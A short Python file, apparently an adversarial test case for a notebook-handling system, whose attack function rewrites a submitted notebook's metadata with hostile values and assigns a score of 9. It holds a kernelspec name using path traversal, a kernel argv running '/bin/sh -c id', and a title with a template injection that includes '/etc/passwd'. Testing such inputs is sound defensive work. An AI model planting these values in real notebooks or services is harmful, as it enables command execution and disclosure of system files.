"""Asks for another kernel: a shell's, a path, an object."""


def attack(submission):
    """Change what names the kernel."""
    submission.notebook.metadata = {
        "kernelspec": {
            "name": "../../bash",
            "display_name": ["x"],
            "language": "bash",
            "argv": ["/bin/sh", "-c", "id"],
        },
        "language_info": "none",
        "title": "{{ resources }}{% include '/etc/passwd' %}",
    }


SCORE = 9
